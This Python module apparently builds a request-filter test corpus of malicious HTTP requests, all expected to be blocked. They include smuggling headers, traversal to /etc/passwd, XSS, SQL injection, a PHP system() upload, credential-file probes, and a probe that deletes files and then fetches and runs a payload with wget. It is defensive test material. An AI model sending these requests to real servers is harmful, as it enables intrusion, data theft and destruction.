"""Attacks on the protocol itself, and tools that look for holes."""

from corpus import build
from corpus.attacks.payloads import AGENT, plain_headers
from corpus.benign.words import stem

HOST = ("Host", "www.eksempel.no")
# (note, method, path, headers, body): each is a request that no client of good will sends, and that has been used.
ABUSE = [
    ("two lengths", "POST", "/", [HOST, ("Content-Length", "6"), ("Content-Length", "5"), ("Content-Type", build.FORM)], "a=1&bc"),
    ("length and chunks", "POST", "/", [HOST, ("Content-Length", "4"), ("Transfer-Encoding", "chunked"), ("Content-Type", build.FORM)], "0\r\n\r\n"),
    ("chunks, written oddly", "POST", "/", [HOST, ("Transfer-Encoding", "xchunked"), ("Content-Length", "5"), ("Content-Type", build.FORM)], "0\r\n\r\n"),
    ("a coding that nobody has", "POST", "/", [HOST, ("Transfer-Encoding", "identity, chunked"), ("Content-Type", build.FORM)], "0\r\n\r\n"),
    ("chunks twice", "POST", "/", [HOST, ("Transfer-Encoding", "chunked, chunked"), ("Content-Type", build.FORM)], "0\r\n\r\n"),
    ("a length that is no number", "POST", "/", [HOST, ("Content-Length", "5x"), ("Content-Type", build.FORM)], "a=123"),
    ("a negative length", "POST", "/", [HOST, ("Content-Length", "-5"), ("Content-Type", build.FORM)], "a=123"),
    ("a length with a sign", "POST", "/", [HOST, ("Content-Length", "+5"), ("Content-Type", build.FORM)], "a=123"),
    ("a body with a request in it", "POST", "/", [HOST, ("Content-Type", build.FORM)], "a=1\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"),
    ("a request in a parameter", "GET", "/?x=%0d%0a%0d%0aGET%20/admin%20HTTP/1.1%0d%0aHost:%20localhost", [HOST], ""),
    ("TRACE", "TRACE", "/", [HOST, ("Max-Forwards", "0")], ""), ("TRACK", "TRACK", "/", [HOST], ""), ("DEBUG", "DEBUG", "/default.aspx", [HOST, ("Command", "stop-debug")], ""),
    ("CONNECT to somebody else", "CONNECT", "evil.example:25", [("Host", "evil.example:25")], ""),
    ("an address as a proxy gets it, of a host inside", "GET", "http://127.0.0.1:8080/admin", [("Host", "127.0.0.1:8080")], ""),
    ("a null byte in the path", "GET", "/index.php%00.html", [HOST], ""), ("a null byte in a value", "GET", "/?file=a%00b", [HOST], ""), ("a null byte in a form", "POST", "/", [HOST, ("Content-Type", build.FORM)], "file=x%00.php"),
    ("overlong UTF-8", "GET", "/?q=%c0%bcscript%c0%be", [HOST], ""), ("overlong slash", "GET", "/%c0%af%c0%afetc/passwd", [HOST], ""), ("overlong dots", "GET", "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", [HOST], ""),
    ("a line end in a header's value, encoded", "GET", "/", [HOST, ("X-Forwarded-Host", "a%0d%0aSet-Cookie:%20x=1")], ""),
    ("ranges without end", "GET", "/film.mp4", [HOST, ("Range", "bytes=" + ",".join(f"{at}-{at + 1}" for at in range(0, 400, 2)))], ""),
    ("a range of Apache Killer", "HEAD", "/", [HOST, ("Range", "bytes=0-,5-0,5-1,5-2,5-3,5-4,5-5,5-6,5-7,5-8,5-9"), ("Accept-Encoding", "gzip")], ""),
    ("the range of MS15-034", "GET", "/", [HOST, ("Range", "bytes=0-18446744073709551615")], ""),
    ("httpoxy", "GET", "/", [HOST, ("Proxy", "http://10.9.8.7:3128")], ""),
    ("a host header that goes elsewhere", "GET", "/reset", [("Host", "evil.example/?x=www.eksempel.no")], ""),
    ("a host header with markup", "GET", "/", [("Host", "<script>alert(1)</script>")], ""), ("two hosts", "GET", "/", [HOST, ("Host", "evil.example")], ""), ("no host", "GET", "/", [("User-Agent", AGENT)], ""),
    ("an override of the method", "POST", "/users/1", [HOST, ("X-HTTP-Method-Override", "TRACE"), ("Content-Type", build.FORM)], "a=1"),
    ("an address behind the proxy's back", "GET", "/", [HOST, ("X-Original-URL", "/admin/delete?user=1")], ""), ("the same, other name", "GET", "/", [HOST, ("X-Rewrite-URL", "/../../etc/passwd")], ""),
    ("a type that hides the body", "POST", "/", [HOST, ("Content-Type", "application/x-www-form-urlencoded; charset=ibm037")], "%89%84=%7d%40%D6%D9%40%F1%7E%F1"),
    ("a charset of old", "POST", "/", [HOST, ("Content-Type", "text/html; charset=utf-7")], "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("two types", "POST", "/", [HOST, ("Content-Type", "text/plain"), ("Content-Type", build.FORM)], "id=1'+or+1=1--"),
    ("a form without a boundary", "POST", "/", [HOST, ("Content-Type", "multipart/form-data")], '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n<script>alert(1)</script>\r\n--x--\r\n'),
    ("two boundaries", "POST", "/", [HOST, ("Content-Type", "multipart/form-data; boundary=a; boundary=b")], '--b\r\nContent-Disposition: form-data; name="q"\r\n\r\n1\' or 1=1--\r\n--b--\r\n'),
    ("a part that is a file for one and a text for the other", "POST", "/", [HOST, ("Content-Type", "multipart/form-data; boundary=z")], '--z\r\nContent-Disposition: form-data; name="q"; filename="a"; filename*=utf-8\'\'x.php\r\n\r\n<?php system("id");\r\n--z--\r\n'),
    ("a part with a coding", "POST", "/", [HOST, ("Content-Type", "multipart/form-data; boundary=z")], '--z\r\nContent-Disposition: form-data; name="q"\r\nContent-Transfer-Encoding: base64\r\n\r\nPHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\r\n--z--\r\n'),
    ("a part in UTF-7", "POST", "/", [HOST, ("Content-Type", "multipart/form-data; boundary=z")], '--z\r\nContent-Disposition: form-data; name="q"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n+ADw-script+AD4-\r\n--z--\r\n'),
    ("a charset for all parts", "POST", "/", [HOST, ("Content-Type", "multipart/form-data; boundary=z")], '--z\r\nContent-Disposition: form-data; name="_charset_"\r\n\r\nutf-16\r\n--z\r\nContent-Disposition: form-data; name="q"\r\n\r\nx\r\n--z--\r\n'),
    ("a parameter twice, for those who join them", "GET", "/?id=1/*&id=*/union/*&id=*/select/*&id=*/1", [HOST], ""),
    ("JSON that is none", "POST", "/", [HOST, ("Content-Type", build.JSON)], "{\"a\":\"1' or '1'='1\",}"), ("JSON with a key twice", "POST", "/", [HOST, ("Content-Type", build.JSON)], "{\"id\":1,\"id\":\"1 union select 1,2\"}"),
    ("JSON too deep", "POST", "/", [HOST, ("Content-Type", build.JSON)], "[" * 3000 + "]" * 3000),
    ("a length of header that breaks buffers", "GET", "/", [HOST, ("X-A", "A" * 60000)], ""),
    ("session fixation", "GET", "/?PHPSESSID=attacker1", [HOST, ("Referer", "http://evil.example/")], ""), ("session fixation by markup", "GET", "/?q=%3Cscript%3Edocument.cookie%3D%22sid%3D1%22", [HOST], ""), ("session fixation in a meta", "POST", "/", [HOST, ("Content-Type", build.FORM)], "q=%3Cmeta+http-equiv%3DSet-Cookie+content%3D%22sid%3D1%22%3E"),
    ("a redirect to elsewhere through credentials", "GET", "/login?next=https://www.eksempel.no%40evil.example/", [HOST], ""),
]
TOOLS = [
    "sqlmap/1.8.4#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Nmap Scripting Engine; https://nmap.org/book/nse.html",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "gobuster/3.6", "DirBuster-1.0-RC1 (http://www.owasp.org/)", "feroxbuster/2.10.2", "Fuzz Faster U Fool v2.1.0",
    "Wfuzz/3.1.0", "Arachni/v1.5.1", "w3af.org", "Acunetix-Product", "Netsparker", "OpenVAS", "Nessus SOAP", "zgrab/0.x", "ZmEu", "Havij", "commix/v3.9 (https://commixproject.com)", "XSStrike", "joomscan", "jorgee", "dirsearch", "Jaeles", "whatweb/0.5.5", "paros/3.2", "Morfeus Fucking Scanner", "BurpSuite", "sysscan/1.0", "libredtail-http",
]
PROBES = [
    "/.env", "/.git/config", "/.git/HEAD", "/.svn/entries", "/.DS_Store", "/.aws/credentials", "/.ssh/id_rsa", "/.htpasswd", "/.htaccess", "/wp-config.php.bak", "/wp-config.php~", "/config.php.old", "/backup.sql", "/dump.sql.gz", "/db.sqlite3", "/phpinfo.php", "/server-status", "/actuator/env", "/actuator/heapdump",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/solr/admin/info/system?wt=json", "/shell?cd+/tmp;rm+-rf+*;wget+http://10.9.8.7/x;sh+x", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=busybox&curpath=/",
    "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1".replace("\\", "%5C"), "/_ignition/execute-solution", "/?-s", "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "/_profiler/phpinfo", "/telescope/requests", "/jmx-console/", "/manager/text/list",
    "/web.config", "/WEB-INF/web.xml", "/docker-compose.yml", "/.dockerenv", "/.npmrc", "/composer.lock", "/storage/logs/laravel.log", "/.vscode/sftp.json", "/c99.php", "/wso.php", "/shell.php?cmd=id", "/autodiscover/autodiscover.json?@evil.example/owa/&Email=x", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
]


def fill(corpus):
    for note, method, path, headers, body in ABUSE:
        name = stem("protocol", note)
        if not any(one == "User-Agent" for one, _ in headers):
            headers = [*headers[:1], ("User-Agent", AGENT), ("Accept", "*/*"), *headers[1:]]
        corpus.add(name, note, method, path, headers, body, **{"class": "protocol", "placement": "request", "encoding": "as it is", "expect": "block"})
    for agent in TOOLS:
        for path in ("/", "/admin/login?id=1"):
            corpus.add(stem("scanner", agent), "a tool that names itself", "GET", path, plain_headers(agent=agent),
                       **{"class": "scanner", "placement": "header", "encoding": "as it is", "expect": "block"})
    for path in PROBES:
        corpus.add(stem("probe", path), "a look for what should not be there", "GET", path, plain_headers(),
                   **{"class": "scanner", "placement": "path", "encoding": "as it is", "expect": "block"})
